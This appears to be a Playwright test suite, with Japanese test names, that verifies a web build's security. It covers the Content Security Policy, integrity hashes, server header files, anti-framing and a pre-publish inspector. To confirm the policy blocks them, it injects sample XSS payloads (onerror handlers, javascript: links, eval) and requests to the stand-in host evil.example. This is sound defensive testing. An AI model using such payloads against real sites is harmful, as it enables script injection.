// What a build promises before it is published, and what the browser is told with it.
import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { brotliDecompressSync, gunzipSync } from 'node:zlib';
import { compress } from '../../scripts/compress.mjs';
import { forApache, forNginx, forPages } from '../../scripts/headers.mjs';
import { filesIn, problemsOf } from '../../scripts/inspect.mjs';
import { SYNC_POLICY, contentPolicy, digest, headersOf, policyIn, secured } from '../../scripts/policy.mjs';
import { expect, test } from './fixtures.mjs';

/** The page of the build that is served. */
const pageOf = async (request) => (await request.get('./')).text();

test('方針は、守る相手より前に立ち、このページのスクリプトだけを許す', async ({ request }) => {
  const html = await pageOf(request);
  const policy = policyIn(html);
  expect(policy).toBe(contentPolicy(html));
  expect(policy).toMatch(/^default-src 'none'; script-src 'self' 'wasm-unsafe-eval' 'sha256-[^']+'; style-src 'self' 'sha256-[^']+';/);
  expect(policy).not.toMatch(/unsafe-inline|unsafe-eval(?<!wasm-unsafe-eval)|https?:|\*/);
  expect(html.indexOf(policy)).toBeLessThan(html.search(/<(script|style|link)\b/));
  expect(html).not.toMatch(/<[^>]+\s(on[a-z]+|style)=/);
});

test('読み込むファイルは、ページに書かれたハッシュのとおり', async ({ request }) => {
  const html = await pageOf(request);
  const hashed = [...html.matchAll(/<(?:link|script)\b[^>]*>/g)].map(([tag]) => ({
    name: tag.match(/\s(?:href|src)="([^"]+)"/)?.[1],
    integrity: tag.match(/\sintegrity="([^"]+)"/)?.[1],
  })).filter(({ name }) => name);
  expect(hashed.length).toBeGreaterThan(5);
  for (const { name, integrity } of hashed) {
    if (!integrity) {
      expect(name, 'only pictures and the manifest have no hash').toMatch(/\.(svg|png|webmanifest)$/);
      continue;
    }
    expect(digest(integrity.split('-')[0], await (await request.get(name)).body()), name).toBe(integrity);
  }
});

test('どのファイルにも同じヘッダーが付き、名前にハッシュのあるものだけ長く取っておける', async ({ request }) => {
  const html = await pageOf(request);
  const names = [...html.matchAll(/(?:href|src)="\.?\/?([^"#]+)"/g)].map(([, name]) => name);
  for (const name of ['./', 'decrypt.html', 'rescue.js', ...names]) {
    const headers = (await request.get(name)).headers();
    for (const [header, value] of Object.entries(headersOf(policyIn(html)))) expect.soft(headers[header.toLowerCase()], `${name} ${header}`).toBe(value);
    expect.soft(headers['cache-control'], name).toBe(/-[0-9a-f]{13,16}(_bg)?\.\w+$/.test(name) ? 'public, max-age=31536000, immutable' : 'no-cache');
  }
  const wasm = names.find((name) => name.endsWith('.wasm'));
  expect((await request.get(wasm)).headers()['content-type']).toBe('application/wasm');
});

test('nginx、Apache、Netlify と Cloudflare Pages 用のファイルは、同じヘッダーを言う', async ({ request }) => {
  const policy = policyIn(await pageOf(request));
  const expected = headersOf(policy);
  expect(expected['Content-Security-Policy']).toBe(`${policy}; frame-ancestors 'none'`);
  const said = (text, line) => Object.fromEntries([...text.matchAll(line)].map(([, name, value]) => [name, value]).filter(([name]) => name !== 'Cache-Control'));
  expect(said(forNginx(policy), /^ {2}add_header (\S+) "(.*)" always;$/gm)).toEqual(expected);
  const [before, worker] = forNginx(policy).split('sync-worker');
  expect(said(before, /^ {4}add_header (\S+) "(.*)" always;$/gm)).toEqual(expected);
  const ofWorker = headersOf(SYNC_POLICY);
  expect(said(worker, /^ {4}add_header (\S+) "(.*)" always;$/gm)).toEqual(ofWorker);
  expect(said(forApache(policy), /^ {4}Header always set (\S+) "(.*)"$/gm)).toEqual({ 'Content-Security-Policy': ofWorker['Content-Security-Policy'] });
  expect(said(forApache(policy), /^ {2}Header always set (\S+) "(.*)"$/gm)).toEqual(expected);
  const files = [{ name: 'a-0123456789abcdef.css', size: 1 }, { name: 'index.html', size: 9 }];
  const pages = forPages(policy, files);
  const [forAll, forWorker] = pages.split('/sync-worker.js');
  expect(said(forWorker, /^ {2}(\S+): (.*)$/gm)).toEqual({ 'Content-Security-Policy': ofWorker['Content-Security-Policy'] });
  expect(said(forAll, /^ {2}(\S+): (.*)$/gm)).toEqual(expected);
  expect(pages).toContain('/a-0123456789abcdef.css\n  Cache-Control: public, max-age=31536000, immutable');
  expect(pages).not.toContain('/index.html');
});

test('圧縮して添えたファイルは、戻すと元のファイルになる', ({}, testInfo) => {
  const [build, folder] = ['build', 'compressed'].map((name) => testInfo.outputPath(name));
  mkdirSync(join(build, 'schema'), { recursive: true });
  const files = { 'index.html': '<p>依頼ボード</p>'.repeat(50), 'schema/board.json': JSON.stringify({ a: 'い'.repeat(500) }), 'tiny.js': '1', 'icon.png': 'x'.repeat(999), _headers: '/*\n'.repeat(99) };
  for (const [name, text] of Object.entries(files)) writeFileSync(join(build, name), text);
  compress(build, folder);
  const made = filesIn(folder);
  expect(made).toEqual(['_headers', 'icon.png', 'index.html', 'index.html.br', 'index.html.gz', 'schema/board.json', 'schema/board.json.br', 'schema/board.json.gz', 'tiny.js']);
  for (const [ending, unpack] of [['.br', brotliDecompressSync], ['.gz', gunzipSync]]) {
    for (const name of made.filter((name) => name.endsWith(ending))) {
      expect(unpack(readFileSync(join(folder, name))).toString()).toBe(files[name.slice(0, -ending.length)]);
    }
  }
});

test('ほかのページは、このページを枠に入れられない', async ({ page, baseURL }) => {
  // The same machine under another name is another origin.
  const elsewhere = new URL('/elsewhere', baseURL.replace('127.0.0.1', 'localhost')).href;
  await page.route(elsewhere, (route) => route.fulfill({ contentType: 'text/html', body: `<iframe src="${baseURL}"></iframe>` }));
  await page.goto(elsewhere);
  await expect.poll(() => page.frames().at(-1).url()).toBe('chrome-error://chromewebdata/');
  // It is the header that keeps it out.
  await page.route(baseURL, async (route) => {
    const response = await route.fetch();
    const { 'content-security-policy': _, ...headers } = response.headers();
    return route.fulfill({ response, headers });
  });
  await page.goto(elsewhere);
  await expect.poll(() => page.frames().at(-1).url()).toBe(baseURL);
});

test('書かれたものが紛れ込んでも、動かず、外から何も読まない', async ({ board: { page }, pageErrors }) => {
  const outside = [];
  // What is refused never comes this far.
  await page.route('https://evil.example/**', (route) => {
    outside.push(route.request().url());
    return route.fulfill({ body: '' });
  });
  const refused = await page.evaluate(async () => {
    const refused = [];
    window.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => refused.push(effectiveDirective));
    const place = document.createElement('div');
    document.body.append(place);
    place.innerHTML = '<img src=x onerror="window.__pwned=1"><svg><a href="javascript:window.__pwned=1"></a></svg><div style="color:red"></div>';
    const script = document.createElement('script');
    script.textContent = 'window.__pwned=1';
    place.append(script);
    for (const source of ['https://evil.example/x.js', 'data:text/javascript,window.__pwned=1']) {
      const loaded = document.createElement('script');
      loaded.src = source;
      place.append(loaded);
    }
    place.insertAdjacentHTML('beforeend', '<iframe src="https://evil.example/"></iframe><img src="https://evil.example/x.png"><object data="https://evil.example/x"></object>');
    place.insertAdjacentHTML('beforeend', '<form action="https://evil.example/"></form><base href="https://evil.example/">');
    place.querySelector('form').submit();
    place.querySelector('a').dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
    await fetch('https://evil.example/').catch(() => {});
    // Not at once: what a test itself evaluates is let through.
    await new Promise((done) => {
      setTimeout(() => {
        try {
          (0, eval)('window.__pwned=1');
        } catch (error) {
          refused.push(error.name);
        }
        setTimeout(done, 300);
      });
    });
    return [...new Set(refused)].sort();
  });
  expect(refused).toEqual([
    'EvalError', 'base-uri', 'connect-src', 'form-action', 'frame-src', 'img-src', 'object-src', 'script-src', 'script-src-attr', 'script-src-elem', 'style-src-attr',
  ]);
  expect(await page.evaluate(() => '__pwned' in window)).toBe(false);
  expect(outside).toEqual([]);
  pageErrors.length = 0;
});

test.describe('公開前の検査', () => {
  const STYLE = 'style-0123456789abcdef.css';
  const NAMES = { script: 'app-0123456789abcdef.js', wasm: 'app-0123456789abcdef_bg.wasm' };

  /** A small build as trunk leaves it, with the policy. */
  function build(folder) {
    rmSync(folder, { recursive: true, force: true });
    mkdirSync(folder, { recursive: true });
    const put = (name, text) => writeFileSync(join(folder, name), text);
    const files = { [STYLE]: 'p { background: url(icon.svg); }', [NAMES.script]: "import './part.js';", [NAMES.wasm]: '\0asm', 'part.js': '', 'rescue.js': '"use strict";', 'icon.svg': '<svg xmlns="http://www.w3.org/2000/svg"/>' };
    for (const [name, text] of Object.entries(files)) put(name, text);
    const hash = (name) => `integrity="${digest('sha384', files[name])}"`;
    const html = `<!doctype html><head><meta charset="utf-8" />
      <link rel="icon" href="./icon.svg" /><link rel="stylesheet" href="./${STYLE}" ${hash(STYLE)}/>
      <script src="rescue.js" defer></script><script type="module">import './${NAMES.script}';</script>
      <link rel="modulepreload" href="./${NAMES.script}" ${hash(NAMES.script)}><link rel="preload" href="./${NAMES.wasm}" ${hash(NAMES.wasm)} as="fetch">
      </head><body><a href="https://example.com/" rel="noopener">x</a></body>`;
    put('index.html', secured(html, (name) => readFileSync(join(folder, name))));
    return folder;
  }

  const change = (name, from, to) => (folder) => {
    const text = readFileSync(join(folder, name), 'latin1');
    const changed = text.replace(from, () => to);
    expect(changed, `${name} has no ${from}`).not.toBe(text);
    writeFileSync(join(folder, name), changed, 'latin1');
  };
  const add = (name, text) => (folder) => writeFileSync(join(folder, name), text);

  /** What is spoiled, and what is said. */
  const SPOILED = [
    ['スタイルの1バイト', change(STYLE, 'p {', 'q {'), `${STYLE}: not what its hash`],
    ['スクリプトの1バイト', change(NAMES.script, 'part', 'parT'), `${NAMES.script}: not what its hash`],
    ['WebAssemblyの1バイト', change(NAMES.wasm, 'asm', 'bsm'), `${NAMES.wasm}: not what its hash`],
    ['別に立つスクリプトの1バイト', change('rescue.js', 'strict', 'Strict'), 'rescue.js: not what its hash'],
    ['ファイルがない', (folder) => rmSync(join(folder, STYLE)), `there is no ${STYLE}`],
    ['ハッシュがない', change('index.html', / integrity="[^"]*"/, ''), 'no hash in index.html'],
    ['ページの中のスクリプト', change('index.html', "import './app", "alert(1);import './app"), 'the policy is not the one'],
    ['方針がない', change('index.html', /<meta http-equiv[^>]*>/, ''), 'no content security policy'],
    ['方針がゆるい', change('index.html', "style-src 'self'", "style-src 'self' 'unsafe-inline'"), 'allows what is unsafe'],
    ['方針より前のもの', change('index.html', '<meta charset', '<link rel="icon" href="./icon.svg" /><meta charset'), 'stands before the policy'],
    ['ほかのページの緩い方針', add('other.html', `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-eval'">`), 'allows what is unsafe'],
    ['動く属性', change('index.html', '<body>', '<body onload="x()">'), 'refuses: onload'],
    ['スタイルの属性', change('index.html', '<body>', '<body style="color:red">'), 'refuses: style'],
    ['外のスクリプト', change('index.html', '</head>', '<script src="https://cdn.example/x.js"></script></head>'), 'loaded from elsewhere'],
    ['外のフォント', add('font.css', '@import "//fonts.example/x.css";'), 'font.css: something is loaded from elsewhere'],
    ['外の背景', add('back.css', 'p{background:url( "https://cdn.example/x.png")}'), 'back.css: something is loaded from elsewhere'],
    ['外への通信', add('far.js', 'fetch("https://evil.example/")'), 'far.js: something is loaded from elsewhere'],
    ['外の部品', add('far.js', "import x from 'https://cdn.example/x.js'"), 'far.js: something is loaded from elsewhere'],
    ['作った端末のパス', add('part.js', '// /home/person/project/src/main.rs'), 'part.js: a path of the building machine'],
    ['動く絵', add('icon.svg', '<svg xmlns="http://www.w3.org/2000/svg"><script>x()</script></svg>'), 'a picture with a script'],
    ['知らない種類のファイル', add('notes.bak', ''), 'no kind of file'],
  ];

  test('よいビルドには何も言わない', () => {
    expect(problemsOf(build(test.info().outputPath('sound')))).toEqual([]);
  });

  for (const [what, spoil, said] of SPOILED) {
    test(`見つける: ${what}`, () => {
      const folder = build(test.info().outputPath('build'));
      spoil(folder);
      expect(problemsOf(folder).join('\n')).toContain(said);
    });
  }
});
